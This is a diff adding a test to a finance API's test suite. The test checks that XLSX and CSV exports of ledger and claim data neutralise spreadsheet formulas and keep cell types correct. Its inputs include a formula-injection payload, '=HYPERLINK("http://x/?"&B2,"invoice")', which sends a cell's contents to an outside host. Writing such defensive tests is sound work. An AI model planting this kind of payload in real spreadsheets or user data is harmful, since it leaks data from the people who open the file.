@@ -153,3 +153,40 @@ async def test_import_rows_with_bad_pilots_are_rejected_by_line(
     real = await client.post(url + "&dry_run=false", files={"file": ("x.csv", rows.encode())}, headers=fin)
     assert real.status_code == 422 and [e["line"] for e in real.json()["errors"]] == [3, 4]
     assert (await client.get(f"/projects/{idk}/costs", headers=fin)).json()["items"] == []
+
+
+async def test_exports_neutralise_formulas_and_type_their_cells(
+    client: httpx.AsyncClient, auth: Auth, idk: str
+) -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    fin = auth("finance", implementer=KUOPIO)
+    formulas = ['=HYPERLINK("http://x/?"&B2,"invoice")', "+SUM(A1:A9)", "@SUM(A1)", "-2+3"]
+    for n, text in enumerate(formulas):
+        r = await client.post(
+            f"/projects/{idk}/costs",
+            json=entry(voucher_ref=f"F{n}", description=text, entry_date="2020-02-03"),
+            headers=fin,
+        )
+        assert r.status_code == 201, r.text
+    made = await client.post(
+        f"/projects/{idk}/claims",
+        json={"period_start": "2020-01-01", "period_end": "2020-06-30"},
+        headers=fin,
+    )
+    for url in (
+        f"/projects/{idk}/ledger/export?format=xlsx",
+        f"/projects/{idk}/claims/{made.json()['number']}/export?format=xlsx",
+    ):
+        book = load_workbook(io.BytesIO((await client.get(url, headers=fin)).content))
+        sheet = book.active
+        assert sheet is not None
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert not any(c.data_type == "f" for c in cells), url
+        texts = {c.value for c in cells if isinstance(c.value, str)}
+        assert {"'" + t for t in formulas} <= texts, url
+        assert any(c.is_date for c in cells) and any(c.data_type == "n" for c in cells), url
+    csv_text = (await client.get(f"/projects/{idk}/ledger/export", headers=fin)).content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ";=HYPERLINK" not in csv_text
